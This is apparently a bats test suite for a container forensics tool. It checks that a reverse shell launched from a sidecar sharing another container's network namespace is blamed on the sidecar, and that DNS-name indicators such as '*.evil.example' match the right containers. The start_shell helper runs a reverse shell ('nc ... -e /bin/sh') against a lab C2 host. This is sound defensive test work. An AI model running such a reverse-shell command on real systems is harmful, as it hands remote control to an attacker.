#!/usr/bin/env bats
# attribution.bats: a reverse shell from a sidecar that shares another container's network
# namespace (--network container:X) belongs to the sidecar for every command that reads flows:
# live locate, locate --since on a journal the real cirt watch wrote, triage, and report on
# collect bundles of both containers. X may be named as the namespace's owner, never blamed.
# Names: after DNS lookups of the lab's names from a default-bridge and a custom-network container
# (journaled by the real cirt watch), each followed by a connection, `locate NAME`, a wildcard
# and --ioc with names find both. Fixtures are kj-attr-*; the shell and the lookups' connections
# go only to the lab's C2 host (10.66.0.2:80 and its DNS server), one at a time, each closed by
# the C2 host's httpd within a minute.

load helpers

X=kj-attr-x
S=kj-attr-side
DB=kj-attr-dns-b
DC=kj-attr-dns-c

setup_file() {
	docker rm -f "$X" "$S" "$DB" "$DC" >/dev/null 2>&1 || true
	flush_stale_c2_flows
	docker run -d --name "$X" --label cirt.lab=1 --network "$LAB_NET" "$LAB_IMAGE" sleep 1800 >/dev/null
	docker run -d --name "$S" --label cirt.lab=1 --network "container:$X" "$LAB_IMAGE" sleep 1800 >/dev/null
	# network safety: the namespace's route to the C2 host is the lab's
	local pid
	pid=$(container_pid "$X")
	nsenter -t "$pid" -n ip route get "$LAB_C2_IP" | grep -q . || return 1
	printf '%s # the lab C2 host\n' "$LAB_C2_IP" >"$BATS_FILE_TMPDIR/ioc.txt"
}

teardown_file() {
	local p
	for p in watch dnswatch; do
		p=$(cat "$BATS_FILE_TMPDIR/$p.pid" 2>/dev/null) && kill -TERM "$p" 2>/dev/null || true
	done
	docker rm -f "$X" "$S" "$DB" "$DC" >/dev/null 2>&1 || true
}

# established connections of the shared namespace to the C2 host
c2_conns() {
	nsenter -t "$(container_pid "$X")" -n ss -Htnp state established dst "$LAB_C2_IP"
}

# source ports of those connections
c2_sports() {
	c2_conns | awk '{print $3}' | sed 's/.*://' | sort -u
}

# start_shell: a fresh reverse shell in the sidecar (a process of its own cgroup), connected to
# the C2 host; its source port in $SPORT (earlier ones end when the C2 host's httpd gives up)
start_shell() {
	local before i
	before=$(c2_sports)
	docker exec -d "$S" nc "$LAB_C2_IP" 80 -e /bin/sh
	for i in $(seq 1 40); do
		SPORT=$(c2_sports | grep -vxF "$before" | head -1 || true)
		[ -n "$SPORT" ] && return 0
		sleep 0.25
	done
	echo "the reverse shell did not connect" >&2
	return 1
}

@test "attribution: live locate names the sidecar and its shell, X only as the namespace's owner" {
	start_shell
	run_split "$CIRT" --json locate "$LAB_C2_IP:80"
	[ "$status" -eq 1 ]
	f=$(jq -c --argjson p "$SPORT" '[.findings[] | select(.flow.original.sport == $p)][0]' <<<"$output")
	[ "$(jq -r .container.name <<<"$f")" = "$S" ]
	jq -e '.sources | index("socket") and index("conntrack")' <<<"$f" >/dev/null
	[ "$f" != null ]
	[ "$(jq -r .by <<<"$f")" = process ]
	[ "$(jq -r .netns_owner.name <<<"$f")" = "$X" ]
	jq -e '.process.comm == "sh" or .process.comm == "nc"' <<<"$f" >/dev/null
	jq -e '.process.ppid > 0 and (.process.argv | length) > 0' <<<"$f" >/dev/null
	# the kernel's answer: ss names the same process
	c2_conns | grep -q "pid=$(jq -r .process.pid <<<"$f"),"
	# X is never the one that talked
	jq -e --arg x "$X" '[.findings[] | select(.container.name == $x)] | length == 0' <<<"$output" >/dev/null
	jq -e --arg x "$X" --arg s "$S" '[.containers[].name] | (index($x) | not) and index($s)' <<<"$output" >/dev/null
	# the table says so
	run_split "$CIRT" locate "$LAB_C2_IP:80"
	[ "$status" -eq 1 ]
	grep -E "^$S +socket\+conntrack .* process +open now" <<<"$output"
	grep -q "$S ([^)]*in the network namespace of $X)" <<<"$output"
	! grep -qE "^$X " <<<"$output"
}

@test "attribution: conns gives the shell's socket to the sidecar, the namespace's own to X" {
	start_shell
	run_split "$CIRT" --json conns "$X" "$S"
	[ "$status" -eq 0 ]
	jq -e --arg s "$S" --arg x "$X" '.containers[] | select(.name == $s) | [.sockets[] | select(.remote == "10.66.0.2:80" and .state == "ESTABLISHED")] | length > 0 and all(.by == "process" and .netns_owner.name == $x)' <<<"$output" >/dev/null
	jq -e --arg x "$X" '[.containers[] | select(.name == $x) | .sockets[] | select(.remote == "10.66.0.2:80")] | length == 0' <<<"$output" >/dev/null
	# asked about the sidecar alone: the namespace's sockets no process of it holds are not its
	run_split "$CIRT" --json conns "$S"
	[ "$status" -eq 0 ]
	jq -e '[.containers[0].sockets[] | select(.by != "process")] | length == 0' <<<"$output" >/dev/null
}

@test "attribution: locate --since on the real cirt watch's journal does not blame X" {
	J=$BATS_FILE_TMPDIR/journal
	"$CIRT" watch --journal "$J" --max-size 64M >"$BATS_FILE_TMPDIR/watch.out" 2>"$BATS_FILE_TMPDIR/watch.err" &
	echo $! >"$BATS_FILE_TMPDIR/watch.pid"
	for i in $(seq 1 120); do
		grep -q "watching:" "$BATS_FILE_TMPDIR/watch.err" && break
		sleep 0.25
	done
	start_shell
	sport=$SPORT
	for i in $(seq 1 80); do
		grep -q "\"sport\":$sport,\"dst\":\"$LAB_C2_IP\"" "$J"/journal-*.ndjson 2>/dev/null && break
		sleep 0.25
	done
	kill -INT "$(cat "$BATS_FILE_TMPDIR/watch.pid")"
	wait "$(cat "$BATS_FILE_TMPDIR/watch.pid")" || true
	line=$(grep -h "\"sport\":$sport,\"dst\":\"$LAB_C2_IP\"" "$J"/journal-*.ndjson | head -1)
	[ -n "$line" ]
	# the journal's line: an older watcher names the namespace's owner by address, a newer
	# one the sidecar by its process
	jq -e --arg x "$X" --arg s "$S" '(.by == null and .src_container.name == $x) or (.by == "process" and .src_container.name == $s)' <<<"$line" >/dev/null
	run_split "$CIRT" --json locate "$LAB_C2_IP" --since 10m --journal "$J"
	[ "$status" -eq 1 ]
	jq -e '.sources.journal.ok == true and .sources.journal.flows > 0' <<<"$output" >/dev/null
	f=$(jq -c --arg s "$S" --argjson p "$sport" '[.findings[] | select(.flow.original.sport == $p)][0]' <<<"$output")
	[ "$(jq -r .container.name <<<"$f")" = "$S" ]
	jq -e '.sources | index("journal")' <<<"$f" >/dev/null
	[ "$(jq -r .netns_owner.name <<<"$f")" = "$X" ]
	jq -e --arg x "$X" '[.findings[] | select(.container.name == $x)] | length == 0' <<<"$output" >/dev/null
	jq -e --arg x "$X" '[.containers[].name] | index($x) | not' <<<"$output" >/dev/null
}

@test "attribution: with the fallback (watch --no-bpf) the shell, alive across polls, is the sidecar's too" {
	J=$BATS_FILE_TMPDIR/fbjournal
	"$CIRT" watch --no-bpf --journal "$J" --max-size 64M >"$J.out" 2>"$J.err" &
	echo $! >"$BATS_FILE_TMPDIR/watch.pid"
	for i in $(seq 1 120); do
		grep -q "watching:" "$J.err" && break
		sleep 0.25
	done
	grep -q "kernel events fallback" "$J.err"
	start_shell
	sport=$SPORT
	for i in $(seq 1 80); do
		grep -q "\"sport\":$sport,\"dst\":\"$LAB_C2_IP\"" "$J"/journal-*.ndjson 2>/dev/null && break
		sleep 0.25
	done
	kill -TERM "$(cat "$BATS_FILE_TMPDIR/watch.pid")"
	wait "$(cat "$BATS_FILE_TMPDIR/watch.pid")"
	rm -f "$BATS_FILE_TMPDIR/watch.pid"
	line=$(grep -h "\"sport\":$sport,\"dst\":\"$LAB_C2_IP\"" "$J"/journal-*.ndjson | head -1)
	jq -e --arg x "$X" --arg s "$S" '.by == "process" and .src_container.name == $s and .netns_owner.name == $x and .process.pid > 0' <<<"$line" >/dev/null
	run_split "$CIRT" --json locate "$LAB_C2_IP" --since 10m --journal "$J"
	[ "$status" -eq 1 ]
	f=$(jq -c --argjson p "$sport" '[.findings[] | select(.flow.original.sport == $p)][0]' <<<"$output")
	[ "$(jq -r .container.name <<<"$f")" = "$S" ]
	[ "$(jq -r .netns_owner.name <<<"$f")" = "$X" ]
	jq -e --arg x "$X" '[.findings[] | select(.container.name == $x)] | length == 0' <<<"$output" >/dev/null
}

@test "attribution: triage scores the sidecar for the IOC contact, X not at all" {
	start_shell
	run_split "$CIRT" --json triage --ioc "$BATS_FILE_TMPDIR/ioc.txt" --journal "$BATS_FILE_TMPDIR/journal" --since 1h
	[ "$status" -eq 1 ]
	jq -e --arg s "$S" '.summary[] | select(.container == $s) | [.why[] | select(.kind == "ioc" and .points >= 80)] | length == 1' <<<"$output" >/dev/null
	jq -e --arg x "$X" '[.summary[] | select(.container == $x)] | length == 0' <<<"$output" >/dev/null
	jq -e --arg x "$X" '[.connections[] | select(.container == $x and .ioc != null)] | length == 0' <<<"$output" >/dev/null
	c=$(jq -c --arg s "$S" '[.connections[] | select(.container == $s and .ioc != null)][0]' <<<"$output")
	[ "$(jq -r .by <<<"$c")" = process ]
	[ "$(jq -r .netns_owner <<<"$c")" = "$X" ]
	jq -e '.open_now == true' <<<"$c" >/dev/null
}

@test "attribution: report on collect bundles of X and of the sidecar blames the sidecar only" {
	start_shell
	for who in "$X" "$S"; do
		run_split "$CIRT" collect "$who" --case kj-attr -o "$BATS_TEST_TMPDIR/$who"
		[ "$status" -eq 0 ]
	done
	# X's bundle: the shell's socket is in X's namespace, its holder a process of the sidecar
	jq -e --arg s "$S" '[.sockets[] | select(.remote_address == "10.66.0.2" and .state == "ESTABLISHED") | .owners[0] | select(.outside == true and .container.name == $s)] | length > 0' \
		"$BATS_TEST_TMPDIR/$X/volatile/sockets.json" >/dev/null
	jq -e --arg x "$X" '.netns_owner.name == $x' "$BATS_TEST_TMPDIR/$S/volatile/sockets.json" >/dev/null
	for who in "$X" "$S"; do
		run_split "$CIRT" report "$BATS_TEST_TMPDIR/$who" --ioc "$BATS_FILE_TMPDIR/ioc.txt" --json
		[ "$status" -eq 1 ]
		jq -e --arg s "$S" '.summary[] | select(.container == $s) | [.why[] | select(.kind == "ioc")] | length == 1' <<<"$output" >/dev/null
		jq -e --arg x "$X" '[.summary[] | select(.container == $x)] | length == 0' <<<"$output" >/dev/null
		jq -e --arg x "$X" '[.connections[] | select(.container == $x and .ioc != null)] | length == 0' <<<"$output" >/dev/null
		jq -e --arg s "$S" --arg x "$X" '[.connections[] | select(.container == $s and .ioc != null)] | length > 0 and all(.netns_owner == $x)' <<<"$output" >/dev/null
	done
}

# route_via_lab ARGS...: `ip route get ARGS` leaves through the lab's C2 veth
route_via_lab() {
	ip -4 route get "$@" | grep -q " dev $LAB_C2_HOST_IF "
}

# lookup_then_connect NAME: the container's script: look NAME up, and connect to what it resolved
# to only when that is the lab's C2 host (one bounded HTTP request)
lookup_then_connect() {
	printf '%s' "sleep 1; a=\$(nslookup $1 2>/dev/null | sed -n 's/^Address:* *\([0-9.]*\)\$/\1/p' | tail -1); "
	printf '%s' "echo \"resolved \$a\"; [ \"\$a\" = $LAB_C2_IP ] && printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 2 \$a 80 >/dev/null 2>&1; "
	printf '%s' "echo done; sleep 900"
}

# the names' journal: cirt watch while a default-bridge container looks up the C2 host's name and
# a custom-network one (through Docker's resolver) its CNAME, each then connecting to it
names_journal() {
	local j=$BATS_FILE_TMPDIR/dnsjournal n i
	[ -f "$j.done" ] && return 0
	route_via_lab "$LAB_C2_IP" || { echo "ip route get $LAB_C2_IP does not leave via $LAB_C2_HOST_IF" >&2; return 1; }
	"$CIRT" watch --journal "$j" --max-size 64M >"$j.out" 2>"$j.err" &
	echo $! >"$BATS_FILE_TMPDIR/dnswatch.pid"
	for i in $(seq 1 120); do
		grep -q "watching:" "$j.err" && break
		sleep 0.25
	done
	grep -q "watching:" "$j.err"
	docker run -d --name "$DB" --label cirt.lab=1 --dns "$LAB_C2_IP" "$LAB_IMAGE" sh -c "$(lookup_then_connect "$LAB_C2_DNS_NAME")" >/dev/null
	docker run -d --name "$DC" --label cirt.lab=1 --network "$LAB_NET" --dns "$LAB_C2_IP" "$LAB_IMAGE" sh -c "$(lookup_then_connect "www.$LAB_C2_DNS_DOMAIN")" >/dev/null
	for n in "$DB" "$DC"; do
		for i in $(seq 1 120); do
			docker logs "$n" 2>/dev/null | grep -qx done && break
			sleep 0.25
		done
		docker logs "$n" 2>/dev/null | grep -qx "resolved $LAB_C2_IP" || { echo "$n:" >&2; docker logs "$n" >&2; return 1; }
	done
	# the dns lines are written (the forwarded ones too) before watch stops
	for i in $(seq 1 40); do
		[ "$(cat "$j"/journal-*.ndjson | jq -s --arg b "$DB" --arg c "$DC" '[.[] | select(.type == "dns" and (.container.name == $b or .container.name == $c))] | map(.container.name) | unique | length')" = 2 ] && break
		sleep 0.25
	done
	kill -TERM "$(cat "$BATS_FILE_TMPDIR/dnswatch.pid")"
	wait "$(cat "$BATS_FILE_TMPDIR/dnswatch.pid")"
	rm -f "$BATS_FILE_TMPDIR/dnswatch.pid"
	touch "$j.done"
}

@test "names: locate NAME after lookups from a default-bridge and a custom-network container names both" {
	names_journal
	J=$BATS_FILE_TMPDIR/dnsjournal
	run_split "$CIRT" --json locate "$LAB_C2_DNS_NAME" --journal "$J"
	[ "$status" -eq 1 ]
	jq -e --arg n "$LAB_C2_DNS_NAME" '.query.name == $n and .query.ioc_file == null and .found' <<<"$output" >/dev/null
	# each container's own connection, matched through its own lookup (the CNAME's target for
	# the custom network's www lookup), the name shown
	for c in "$DB" "$DC"; do
		jq -e --arg c "$c" --arg n "$LAB_C2_DNS_NAME" --arg ip "$LAB_C2_IP" '
			[.findings[] | select(.container.name == $c and .flow.original.dst == $ip and .flow.original.dport == 80)] |
			length >= 1 and all(.[]; .indicator.entry == $n and .indicator.name == $n and .indicator.resolved_by == $c)' <<<"$output" >/dev/null
	done
	# the table says which name, resolved by whom
	run_split "$CIRT" locate "$LAB_C2_DNS_NAME" --journal "$J"
	[ "$status" -eq 1 ]
	grep -E "^$DB " <<<"$output"
	grep -E "^$DC " <<<"$output"
	grep -q "$LAB_C2_DNS_NAME, resolved by $DB at " <<<"$output"
	grep -q "$LAB_C2_DNS_NAME, resolved by $DC at " <<<"$output"
	# with --since, the journal's flows too: each container's flow is in it, with its process
	run_split "$CIRT" --json locate "$LAB_C2_DNS_NAME" --journal "$J" --since 1h
	[ "$status" -eq 1 ]
	for c in "$DB" "$DC"; do
		jq -e --arg c "$c" '[.findings[] | select(.container.name == $c and (.sources | index("journal")) and
			.indicator.resolved_by == $c)] | length >= 1 and any(.[]; .process.comm != null)' <<<"$output" >/dev/null
	done
}

@test "names: a wildcard domain and --ioc with names and wildcards" {
	names_journal
	J=$BATS_FILE_TMPDIR/dnsjournal
	run_split "$CIRT" --json locate "*.$LAB_C2_DNS_DOMAIN" --journal "$J"
	[ "$status" -eq 1 ]
	jq -e --arg b "$DB" --arg c "$DC" --arg n "$LAB_C2_DNS_NAME" --arg w "www.$LAB_C2_DNS_DOMAIN" '
		([.findings[] | select(.container.name == $b)] | length >= 1 and all(.[]; .indicator.name == $n and .indicator.resolved_by == $b)) and
		([.findings[] | select(.container.name == $c)] | length >= 1 and all(.[]; .indicator.name == $w and .indicator.resolved_by == $c))' <<<"$output" >/dev/null
	# a file of names: the CNAME www matches the custom network's lookup, a wildcard that no
	# lookup matched matches nothing
	printf '%s\n' "www.$LAB_C2_DNS_DOMAIN # the lab's CNAME" '*.evil.example' >"$BATS_TEST_TMPDIR/names.txt"
	run_split "$CIRT" --json locate --ioc "$BATS_TEST_TMPDIR/names.txt" --journal "$J"
	[ "$status" -eq 1 ]
	jq -e --arg c "$DC" --arg w "www.$LAB_C2_DNS_DOMAIN" '
		.query.names == [$w, "*.evil.example"] and
		([.findings[] | select(.container.name == $c)] | length >= 1 and
			all(.[]; .indicator.entry == $w and .indicator.comment == "the lab'"'"'s CNAME" and .indicator.name == $w and .indicator.resolved_by == $c))' <<<"$output" >/dev/null
	jq -e '[.findings[] | select(.indicator.entry == "*.evil.example")] | length == 0' <<<"$output" >/dev/null
	# only names no lookup matched: nothing found
	printf '%s\n' '*.evil.example' 'evil.example' >"$BATS_TEST_TMPDIR/none.txt"
	run_split "$CIRT" --json locate --ioc "$BATS_TEST_TMPDIR/none.txt" --journal "$J"
	[ "$status" -eq 0 ]
	jq -e '.found == false and (.findings | length) == 0' <<<"$output" >/dev/null
	# a name is not an address: no journal, no answer (exit 4+, said why)
	run_split "$CIRT" locate "$LAB_C2_DNS_NAME" --journal "$BATS_TEST_TMPDIR/nojournal"
	[ "$status" -ge 4 ]
	[[ "$stderr" == *"DNS lines cirt watch journals"* ]]
}
